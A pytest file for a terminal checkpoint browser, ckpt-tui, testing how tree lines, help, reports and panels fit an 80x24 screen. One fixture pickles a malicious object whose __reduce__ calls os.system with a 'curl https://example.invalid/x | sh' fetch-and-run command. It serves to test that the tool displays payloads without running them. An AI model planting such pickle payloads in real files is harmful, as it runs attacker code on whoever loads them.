"""The browser at 80x24: tree lines keep shape and dtype, help wraps, the status line wraps,
report lists use the rows they have, one notification at a time, keys with nothing to do say so."""

from __future__ import annotations

import re
import warnings
from pathlib import Path
from typing import Any

import pytest
import torch
from builders_tui import browser, cursor_path, detail, fixed, loaded, screen_text, settle, status
from textual.widgets import OptionList
from torch import nn

from ckpt_tui.tui.app import CkptApp
from ckpt_tui.tui.fitting import Column, Part, fit_columns, fitted, short_key
from ckpt_tui.tui.screens.dialogs import PreviewScreen, PromptScreen
from ckpt_tui.tui.screens.help import HelpScreen
from ckpt_tui.tui.screens.layers import LABELS, TABLE_COLUMNS, LayersScreen, LayersTable, cell_text
from ckpt_tui.tui.screens.report import ReportScreen

SIZE = (80, 24)


class Block(nn.Module):
    """A ResNet basic block's parameters (conv1, bn1, conv2, bn2)."""

    def __init__(self, channels: int) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(channels, channels, 3, padding=1, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, 3, padding=1, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)


class SmallResNet(nn.Module):
    """ResNet's key layout (``layer1.0.conv1.weight``) at a small size."""

    def __init__(self, classes: int = 10) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(3, 32, 3, bias=False)
        self.bn1 = nn.BatchNorm2d(32)
        self.layer1 = nn.Sequential(Block(32), Block(32))
        self.fc = nn.Linear(32, classes)


@pytest.fixture
def ddp_file(tmp_path: Path) -> Path:
    """A training checkpoint as DDP users save it: ``module.`` keys, optimizer, epoch."""
    torch.manual_seed(0)
    model = nn.DataParallel(SmallResNet())
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    path = tmp_path / "best_model.pth"
    torch.save({"epoch": 3, "model_state_dict": model.state_dict(), "optimizer": optimizer.state_dict()}, path)
    return path


def tree_lines(app: CkptApp) -> list[str]:
    """The tree's column of the screen, line by line."""
    tree = browser(app).tree_view
    left, top = tree.region.x, tree.region.y
    lines = screen_text(app).splitlines()[top : top + tree.region.height]
    return [line[left : left + tree.region.width] for line in lines]


# ---- fitting a line ---------------------------------------------------------------------------


def test_a_short_key_keeps_its_end_and_gives_up_its_start_first() -> None:
    key = "module.layer1.0.conv1.weight"
    assert short_key(key, 40) == key
    # the start before the layer's index goes first, from the left (never "m." for "module.")
    assert short_key(key, 24) == "…layer1.0.conv1.weight"
    # and where that is not enough, its end, every number in it kept (layer2's key reads apart)
    assert short_key(key, 20) == "…yer1.0.conv1.weight"


def test_fitting_drops_bytes_then_device_and_shortens_the_key_before_the_shape() -> None:
    parts = [
        Part("module.layer1.0.conv1.weight", key=True),
        Part(" "),
        Part(" Tensor", drop=1),
        Part(" [32, 3, 3, 3]"),
        Part(" float32", short=" fp32"),
        Part(" cpu", drop=4),
        Part(" 3.5 kB", drop=5),
        Part("  !! NaN", end=True),
    ]
    assert fitted(parts, 200).plain == "module.layer1.0.conv1.weight  Tensor [32, 3, 3, 3] float32 cpu 3.5 kB  !! NaN"
    assert fitted(parts, 66).plain == "module.layer1.0.conv1.weight  Tensor [32, 3, 3, 3] float32  !! NaN"
    narrow = fitted(parts, 40).plain
    assert len(narrow) <= 40 and narrow.endswith("  [32, 3, 3, 3] fp32  !! NaN") and "…" in narrow
    tiny = fitted(parts, 20).plain
    assert len(tiny) <= 20 and tiny.endswith("!! NaN")


def test_fit_columns_takes_short_forms_then_drops_the_least_needed_before_shortening_the_key() -> None:
    columns = [Column("path", 40, 40), Column("norm", 11, 8), Column("std", 11, 8), Column("numel", 8, 8)]
    priority = ["path", "norm", "std", "numel"]
    assert fit_columns(columns, priority, "path", 200, 30) == (["path", "norm", "std", "numel"], 40, False)
    assert fit_columns(columns, priority, "path", 70, 30) == (["path", "norm", "std", "numel"], 32, False)
    assert fit_columns(columns, priority, "path", 64, 30) == (["path", "norm", "std", "numel"], 32, True)
    assert fit_columns(columns, priority, "path", 60, 30) == (["path", "norm", "std"], 38, True)
    assert fit_columns(columns, priority, "path", 20, 30) == (["path"], 18, True)


# ---- the browser at 80x24 -----------------------------------------------------------------------


async def test_a_tree_line_keeps_shape_and_dtype_and_shortens_the_key_in_the_middle(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        tree = await loaded(pilot)
        await settle(pilot, "j", "j", "l")
        lines = tree_lines(app)
        conv = next(line for line in lines if "[32, 3, 3, 3]" in line)
        block = next(line for line in lines if "conv1.weight  [32, 32, 3, 3] fp32" in line)
        # a key that fits is whole; one that does not gives up its start (module.) first, the layer number kept
        assert "├─ module.conv1.weight  [32, 3, 3, 3] fp32" in conv
        assert "├─ …layer1.0.conv1.weight  [32, 32, 3, 3] fp32" in block or "├─ …yer1.0.conv1.weight" in block
        assert tree.virtual_size.width <= tree.size.width, "a line is wider than the tree: it scrolls sideways"


@pytest.mark.parametrize("width", [80, 60])
async def test_bert_keys_in_the_flat_tree_never_read_the_same_and_keep_their_layer_number(
    tmp_path: Path, width: int
) -> None:
    from rich.style import Style
    from safetensors.torch import save_file
    from test_key_shortening import bert_state_dict

    weights = bert_state_dict()
    save_file(weights, str(tmp_path / "bert.safetensors"))
    app = CkptApp(str(tmp_path / "bert.safetensors"))
    async with app.run_test(size=(width, 24), notifications=True) as pilot:
        tree = await loaded(pilot)
        nodes = [node for node in tree.root.children if node.data is not None]
        shown = [tree.render_label(node, Style(), Style()).plain for node in nodes]
        # at 80 columns every line reads apart; at 60, where a 2-D weight's key has 11 columns, they may not
        # (the status line names the focused one whole), but never with a name cut to its initial
        assert len(shown) == len(weights) and (len(set(shown)) == len(shown) or width < 80)
        assert any(len(key) + len("  [16] fp32") > tree.size.width for key in weights), "no key is shortened"
        for node, line in zip(nodes, shown, strict=True):
            key, shown_key = str(node.data.path[-1]), line.split("  [")[0]
            # the layer number stays, the parameter's name, the shape and the dtype
            assert re.findall(r"\d+", shown_key) == re.findall(r"\d+", key), line
            assert shown_key.endswith(key.rsplit(".", 1)[-1]) and line.endswith("fp32")
            assert not re.search(r"(^|[.…])[A-Za-z]\.", shown_key), line


async def test_help_wraps_a_long_description_under_itself_at_80x24_and_says_what_tab_does(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "question_mark")
        assert isinstance(app.screen, HelpScreen)
        await settle(pilot, "end")
        shown = screen_text(app)
        assert "…" not in shown
        lines = shown.splitlines()
        check = next(i for i, line in enumerate(lines) if "Check all · Read every tensor" in line)
        # the rest of the description on the next line, in the description's column
        column = lines[check].index("Check all")
        assert lines[check + 1][column:].startswith("records (escape cancels)")
        assert "Focus Next" not in shown and "Focus Previous" not in shown and "Copy selected text" not in shown
        assert "Next panel (from the tree: the side panel" in shown


async def test_the_status_line_wraps_a_long_message_rather_than_cutting_it(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "p", "y", "u")
        assert "undone: strip 'module.' in ckpt[\"model_state_dict\"]" in status(app)
        line = browser(app).query_one("#status")
        assert line.region.height >= 2
        assert "model_state_dict" in " ".join(screen_text(app).splitlines()[-4:])


@pytest.mark.parametrize("classes", [10, 100])
async def test_a_report_list_uses_the_rows_the_summary_leaves(ddp_file: Path, tmp_path: Path, classes: int) -> None:
    torch.save(SmallResNet(classes=classes).state_dict(), tmp_path / "reference.pth")
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "c")
        app.screen.query_one("Input").value = str(tmp_path / "reference.pth")
        await settle(pilot, "enter")
        assert isinstance(app.screen, ReportScreen)
        body = app.screen.query_one(".dialog-body").region
        head = app.screen.query_one("#report-head").region
        rows = app.screen.query_one("#report-list").region
        hint = app.screen.query_one(".dialog-hint").region
        # no row left empty between them: the summary, the head of the list's section, the list, the hint
        assert head.y == body.bottom and rows.y == head.bottom and rows.bottom == hint.y
        assert rows.height >= 4
        # the summary with the fix's whole command is shown, not scrolled away
        assert app.screen.query_one(".dialog-body").max_scroll_y == 0
        assert "--strip-prefix module." in app.screen.summary.plain


async def test_a_report_note_wraps_at_80_columns_rather_than_being_cut(ddp_file: Path, tmp_path: Path) -> None:
    torch.save(SmallResNet(classes=100).state_dict(), tmp_path / "reference.pth")
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "c")
        app.screen.query_one("Input").value = str(tmp_path / "reference.pth")
        await settle(pilot, "enter")
        assert isinstance(app.screen, ReportScreen)
        listed = app.screen.query_one("#report-list", OptionList)
        prompts = [str(listed.get_option_at_index(i).prompt) for i in range(listed.option_count)]
        note = next(prompt for prompt in prompts if prompt.startswith("these differ in size"))
        # the note about the resized head, whole, over lines that fit the list
        assert "\n" in note and "…" not in note
        assert "then keeps the model's fresh init for fc.weight, fc.bias" in " ".join(note.split())
        assert max(len(line) for line in note.splitlines()) <= listed.content_region.width


async def test_the_findings_list_wraps_each_finding_at_80_columns(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "f")
        listed = app.screen.query_one("#findings-list", OptionList)
        prompts = [str(listed.get_option_at_index(i).prompt) for i in range(listed.option_count)]
        assert any("saved from DataParallel/DDP" in " ".join(prompt.split()) for prompt in prompts)
        for prompt in prompts:
            assert "…" not in prompt and max(len(line) for line in prompt.splitlines()) <= listed.content_region.width


async def test_a_notification_replaces_the_one_before(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        app.notify("the first message", markup=False)
        app.notify("the second message", markup=False)
        await settle(pilot)
        shown = screen_text(app)
        assert "the second message" in shown and "the first message" not in shown


async def test_p_with_nothing_to_strip_says_so_and_the_next_keys_move_the_cursor(tmp_path: Path) -> None:
    torch.save(SmallResNet().state_dict(), tmp_path / "bare.pth")
    app = CkptApp(str(tmp_path / "bare.pth"))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "p")
        assert app.screen is browser(app)
        assert "nothing to strip" in screen_text(app)
        await settle(pilot, "j", "j")
        assert app.screen is browser(app) and cursor_path(app) == ("bn1.weight",)


async def test_strip_with_no_common_prefix_opens_no_prompt(tmp_path: Path) -> None:
    torch.save({"a.x": fixed((2,)), "b.y": fixed((2,))}, tmp_path / "mixed.pth")
    app = CkptApp(str(tmp_path / "mixed.pth"))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "p", "j")
        assert not isinstance(app.screen, PromptScreen) and cursor_path(app) == ("a.x",)
        assert app.session.unsaved == 0


async def test_cast_with_no_floating_point_tensor_opens_no_prompt(tmp_path: Path) -> None:
    torch.save({"steps": torch.arange(4), "mask": torch.ones(3, dtype=torch.bool)}, tmp_path / "ints.pth")
    app = CkptApp(str(tmp_path / "ints.pth"))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "t")
        assert app.screen is browser(app) and "nothing to cast" in screen_text(app)


async def test_n_without_a_search_says_so(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "n")
        assert "no matches to go through: / searches the key paths" in status(app)


@pytest.mark.parametrize(
    ("start", "after"),
    [
        ("fc.bias", ("model_state_dict", "module.fc.weight")),  # the last key: the one before it
        ("fc.weight", ("model_state_dict", "module.fc.bias")),  # a key in the middle: the one after it
    ],
)
async def test_delete_leaves_the_cursor_with_the_neighbour(ddp_file: Path, start: str, after: tuple[str, str]) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        tree = await loaded(pilot)
        tree.reveal((("model_state_dict", "module." + start), None))
        await settle(pilot, "d")
        assert isinstance(app.screen, PreviewScreen)
        await settle(pilot, "y")
        assert "module." + start not in app.session.root["model_state_dict"]
        assert cursor_path(app) == after
        await settle(pilot, "u")
        assert cursor_path(app) == ("model_state_dict", "module." + start)


async def test_a_file_name_typed_into_a_folder_prompt_goes_after_the_folder(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "c", "x", ".", "p", "t", "h")
        assert app.screen.query_one("Input").value == str(ddp_file.parent) + "/x.pth"


async def test_a_whole_path_typed_after_the_folder_is_the_path_typed(ddp_file: Path, tmp_path: Path) -> None:
    other = tmp_path / "elsewhere"
    other.mkdir()
    torch.save(SmallResNet().state_dict(), other / "bare.pth")
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "c")
        await pilot.press(*str(other / "bare.pth"))
        await settle(pilot, "enter")
        assert isinstance(app.screen, ReportScreen)


def test_a_marked_line_keeps_shape_dtype_and_mark_at_80_columns() -> None:
    parts = [
        Part("module.layer3.1.conv2.weight", key=True),
        Part(" "),
        Part(" [256, 256, 3, 3]"),
        Part(" fp32"),
        Part("  !! NaN", end=True),
    ]
    line = fitted(parts, 41).plain
    assert len(line) <= 41 and line.endswith("weight  [256, 256, 3, 3] fp32  !! NaN")


async def test_a_wide_tree_shows_whole_lines_and_a_narrow_one_shows_every_tensor_line_alike(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=(200, 30), notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "l")
        lines = tree_lines(app)
        assert any("module.conv1.weight  Tensor [32, 3, 3, 3] float32 cpu" in line for line in lines)
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=(110, 30), notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "l")
        tensors = [line for line in tree_lines(app) if "module." in line]
        assert tensors and all("Tensor" not in line and "float32" not in line for line in tensors)


# ---- the layers view at 80x24 -------------------------------------------------------------------


def table_lines(app: CkptApp) -> tuple[list[str], list[str]]:
    """The layers table's header and row lines as the screen shows them."""
    table = app.screen.query_one(LayersTable)
    lines = screen_text(app).splitlines()[table.region.y : table.region.bottom]
    return lines[0], lines[1:]


async def test_the_layers_view_at_80x24_fits_without_scrolling_sideways_and_cuts_nothing(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "L")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, LayersScreen)
        table = screen.query_one(LayersTable)
        assert table.virtual_size.width <= table.size.width and not table.show_horizontal_scrollbar
        columns = [str(key.value) for key in table.columns]
        assert columns[:3] == ["mark", "path", "norm"] and len(columns) < len(TABLE_COLUMNS)
        header, rows = table_lines(app)
        assert all(LABELS.get(name, name) in header for name in columns if name != "path")
        # the start every path shares heads the column, once; the rows leave it out
        assert screen.under == "model_state_dict/module." and f"mark  {screen.under}" in header
        assert not any(screen.under in line for line in rows)
        for line, row in zip(rows, screen.shown, strict=False):
            last = str(row.path[-1]).split(".")[-1]
            assert line.split()[0].endswith(last) or last in line, line  # the key's last component stays
            for name in columns[2:]:
                assert cell_text(row, name, compact=True) in line  # numbers whole, in their short form
        # the focused tensor's path in the title is shortened in the middle, never wrapped away
        await settle(pilot, *"jjjj")
        focused = screen.focused_row()
        assert focused is not None
        title = screen_text(app).splitlines()[0]
        assert title.rstrip().endswith(str(focused.path[-1]).split(".")[-1])


async def test_sorting_by_a_column_a_narrow_table_dropped_shows_it(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "L")
        await settle(pilot)
        table = app.screen.query_one(LayersTable)
        assert "min" not in [str(key.value) for key in table.columns]
        while app.screen.sort != "min":
            await settle(pilot, "s")
        assert "min" in [str(key.value) for key in table.columns]
        assert "min ▲" in table_lines(app)[0] or "min ▼" in table_lines(app)[0]
        assert table.virtual_size.width <= table.size.width


async def test_a_wide_layers_view_shows_every_column(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=(200, 30), notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "L")
        await settle(pilot)
        table = app.screen.query_one(LayersTable)
        assert [str(key.value) for key in table.columns] == list(TABLE_COLUMNS)
        assert "float32" in screen_text(app)


# ---- the detail panel and the header at 80x24 -----------------------------------------------------


@pytest.fixture
def kinds_file(tmp_path: Path) -> Path:
    """One node of every kind the detail panel describes: tensor, dict, list, optimizer state, quantized,
    sparse, scalar; a long key."""
    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(512, 1024), nn.ReLU(), nn.Linear(1024, 10))
    optimizer = torch.optim.AdamW(model.parameters())
    model(torch.randn(2, 512)).sum().backward()
    optimizer.step()
    with warnings.catch_warnings():  # deprecated in torch, still what quantized checkpoints hold
        warnings.simplefilter("ignore")
        quantized = torch.quantize_per_tensor(fixed((8, 8)), 0.1, 10, torch.qint8)
    checkpoint = {
        "epoch": 7,
        "model": model.state_dict(),
        "optimizer": optimizer.state_dict(),
        "history": [0.9, 0.8, 0.7],
        "quantized": quantized,
        "sparse": torch.eye(6).to_sparse(),
        "encoder.layers.11.attention.self.query.weight": fixed((4, 4)),
    }
    torch.save(checkpoint, tmp_path / "kinds.pth")
    return tmp_path / "kinds.pth"


def detail_lines(app: CkptApp) -> list[str]:
    """The detail panel's lines, without the blanks at their ends."""
    return [" ".join(line.split()) for line in detail(app).splitlines()]


@pytest.mark.parametrize(
    ("path", "rows"),
    [
        (("epoch",), ["type int", "value 7"]),
        (("history",), ["type list", "children 3"]),
        (("model",), ["children 4", "below 4 tensors", "536k elements", "2.1 MB", "_metadata 4 (kept by .pth only)"]),
        (("optimizer", "state"), ["children 4", "below 12 tensors", "1.07M elements", "4.3 MB"]),
        (("model", "0.weight"), ["shape [1024, 512]", "elements 524,288", "bytes 2.1 MB", "storage record 0"]),
        (("quantized",), ["dtype qint8", "stored as (quantized)", "scale 0.1", "zero_point 10"]),
        (
            ("sparse",),
            ["stored as (sparse_coo)", "indices [2, 6] int64", "values [6] float32", "no stats for sparse_coo tensors"],
        ),
    ],
)
async def test_the_detail_panel_of_each_kind_of_node_fits_80_columns(
    kinds_file: Path, path: tuple[str, ...], rows: list[str]
) -> None:
    app = CkptApp(str(kinds_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        tree = await loaded(pilot)
        tree.reveal((path, None))
        await settle(pilot)
        await pilot.pause(0.3)
        await settle(pilot)
        lines = detail_lines(app)
        for row in rows:
            assert any(line.startswith(row) for line in lines), (row, lines)  # on one line, not wrapped


async def test_the_side_panel_at_80x24_shows_a_tensors_stats_unscrolled_and_its_storage_after(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "j", "j", "l", "l", "enter")
        panel = browser(app).detail
        assert panel.scroll_y == 0
        left, top = panel.region.x, panel.region.y
        lines = screen_text(app).splitlines()[top : top + panel.region.height]
        shown = [" ".join(line[left : left + panel.region.width].strip("│").split()) for line in lines]
        for row in ("shape [32, 3, 3, 3]", "min ", "max ", "mean ", "std ", "L2 norm ", "NaN 0", "Inf 0", "zeros "):
            assert any(line.startswith(row) for line in shown), (row, shown)
        rows = detail_lines(app)
        names = [line.split()[0] for line in rows if line]
        assert names.index("zeros") < names.index("histogram") < names.index("stride") < names.index("storage")


class _Payload:
    """What a malicious download pickles: a call of os.system (recorded by ckpt-tui, never run)."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return (os.system, ("echo PWNED > /tmp/never-run/pwned.txt && curl https://example.invalid/x | sh",))


async def test_the_side_panel_shows_a_payloads_whole_call_wrapped(tmp_path: Path) -> None:
    torch.save({"model": {"w": torch.ones(2)}, "payload": _Payload()}, tmp_path / "download.pth")
    app = CkptApp(str(tmp_path / "download.pth"))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        tree = await loaded(pilot)
        tree.reveal((("payload",), None))
        await settle(pilot)
        panel = browser(app).detail
        left, top = panel.region.x, panel.region.y
        lines = screen_text(app).splitlines()[top : top + panel.region.height]
        shown = "".join(line[left : left + panel.region.width].strip(" │") for line in lines)
        call = "('echo PWNED > /tmp/never-run/pwned.txt && curl https://example.invalid/x | sh',)"
        assert call.replace(" ", "") in shown.replace(" ", "")
        assert "…" not in shown and not Path("/tmp/never-run/pwned.txt").exists()


async def test_a_header_short_of_room_shows_the_first_warnings_fact_rather_than_only_a_count(tmp_path: Path) -> None:
    """A GPU-saved DDP(torch.compile) checkpoint with an EMA beside it has four findings, none of which fits whole
    under its totals at 80x24: the first one's fact is shown (the GPU tags, with the key that maps them), the
    rest counted, not "4 findings" alone."""
    from builders import save_cuda_tagged

    model = nn.Sequential(nn.Linear(30, 40), nn.BatchNorm1d(40), nn.Linear(40, 20)).to(torch.bfloat16)
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(5, 30, dtype=torch.bfloat16)).float().sum().backward()
    optimizer.step()
    wrapped = nn.DataParallel(torch.compile(model)).state_dict()
    ema = torch.optim.swa_utils.AveragedModel(model).state_dict()
    path = save_cuda_tagged(
        {"model": wrapped, "ema": ema, "optimizer": optimizer.state_dict(), "step": 5}, tmp_path / "cluster.pt"
    )
    app = CkptApp(str(path))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot)
        shown = browser(app).query_one("#summary")
        top = " ".join(" ".join(screen_text(app).splitlines()[: shown.region.height]).split())
        assert "! tensors saved on GPU" in top and "(m maps the devices)" in top
        assert "more findings: f lists them all" in top


async def test_a_long_key_in_the_detail_title_breaks_after_whole_keys(kinds_file: Path) -> None:
    app = CkptApp(str(kinds_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        tree = await loaded(pilot)
        key = "encoder.layers.11.attention.self.query.weight"
        tree.reveal(((key,), None))
        await settle(pilot)
        title = detail(app).split("\n\n")[0].splitlines()
        assert "".join(line.strip() for line in title) == f'ckpt["{key}"]'
        assert len(title) > 1 and all(line.rstrip()[-1] in '.["]' for line in title[:-1])


async def test_the_header_at_80x24_shows_the_first_finding_whole_and_counts_the_warning_it_has_no_room_for(
    ddp_file: Path,
) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot)
        shown = browser(app).query_one("#summary")
        top = " ".join(" ".join(screen_text(app).splitlines()[: shown.region.height]).split())
        assert "all their keys start with 'module.': saved from DataParallel/DDP" in top
        # the optimizer's warning has no room: it is counted (its keys gave way first: f lists them)
        assert "has no state" not in top and "… 2 more findings: f lists them all" in top
        # nothing written below what the header shows
        assert len(str(shown.render()).rstrip().splitlines()) <= shown.content_region.height


async def test_a_narrow_tree_line_keeps_a_dtype_without_a_short_form_and_a_sparse_or_quantized_layout(
    kinds_file: Path,
) -> None:
    app = CkptApp(str(kinds_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        lines = tree_lines(app)
        assert any("quantized  quantized [8, 8] qint8" in line for line in lines)
        assert any("sparse  sparse_coo [6, 6] fp32" in line for line in lines)


async def test_the_fix_preview_at_80x24_says_what_the_extract_drops_and_shows_its_buttons(
    ddp_file: Path, tmp_path: Path
) -> None:
    torch.save(SmallResNet(classes=100).state_dict(), tmp_path / "reference.pth")
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        await settle(pilot, "c")
        app.screen.query_one("Input").value = str(tmp_path / "reference.pth")
        await settle(pilot, "enter", "f")
        assert isinstance(app.screen, PreviewScreen)
        # two keys dropped (the head) and 30 renamed; the extract is no "change" of its own
        assert app.screen.question.startswith("Apply? ")
        assert app.screen.question.endswith("shape mismatches: 32 changed")
        detail = str(app.screen.query_one(".dialog-body").render())
        assert "drops epoch = 3, the optimizer state" in " ".join(detail.split())
        yes = app.screen.query_one("#yes").region
        assert yes.bottom <= app.screen.query_one(".dialog").region.bottom <= SIZE[1]


async def test_a_notification_leaves_the_status_line_readable(ddp_file: Path) -> None:
    app = CkptApp(str(ddp_file))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await loaded(pilot)
        app.notify("a message in a toast", markup=False)
        await settle(pilot)
        toast = app.screen.query_one("Toast").region
        status_line = browser(app).query_one("#status").region
        assert toast.bottom <= status_line.y


def test_a_title_breaks_after_keys_and_spaces_never_inside_a_word_that_fits() -> None:
    from ckpt_tui.tui.text import broken

    lines = broken('ckpt["model"] › module › transformer › h', 28).splitlines()
    assert all(len(line) <= 28 for line in lines)
    assert "".join(lines) == 'ckpt["model"] › module › transformer › h' and "transformer" in lines[-1]
    lines = broken('ckpt["model_state_dict"]["module.layer1.0.conv1.weight"]', 28).splitlines()
    assert lines[0] == 'ckpt["model_state_dict"]' and all(len(line) <= 28 for line in lines)


async def test_at_80x24_the_tree_shortens_the_keys_of_one_listing_alike(tmp_path: Path) -> None:
    """Siblings' keys are cut by one rule: a key that fits is whole, the layers' keys that do not give up their
    start alike, never a name to its initial."""
    names = ("self_attn.in_proj_weight", "self_attn.in_proj_bias", "linear1.weight", "norm1.bias")
    state = {f"backbone.{i}.weight": torch.zeros(16, 3, 3, 3) for i in range(2)}
    state |= {f"encoder.layers.{i}.{name}": torch.zeros(96, 32) for i in range(3) for name in names}
    state["head.weight"] = torch.zeros(10, 32)
    torch.save(state, tmp_path / "model.pth")
    app = CkptApp(str(tmp_path / "model.pth"))
    async with app.run_test(size=SIZE) as pilot:
        tree = await loaded(pilot)
        await settle(pilot)
        from rich.style import Style

        shown = {
            node.data.path[-1]: tree.render_label(node, Style(), Style()).plain.split("  ")[0]
            for node in tree.root.children
            if node.data is not None and node.data.path
        }
        layers = [key for key in shown if key.startswith("encoder.layers.")]
        assert any(shown[key] != key for key in layers), "nothing to shorten: test a narrower tree"
        # every layer's key that is cut gives up encoder.layers. alike; its number and names whole
        cut = [key for key in layers if shown[key] != key]
        assert all(shown[key] == "…" + key.split(".", 2)[2] for key in cut), [shown[k] for k in layers]
        assert shown["head.weight"] == "head.weight" and shown["backbone.0.weight"] == "backbone.0.weight"
        # the whole key is on the side panel
        await settle(pilot, *["j"] * 4)
        assert cursor_path(app)[-1].startswith("encoder.layers.") and cursor_path(app)[-1] in detail(app).replace(
            "\n", ""
        ).replace(" ", "")
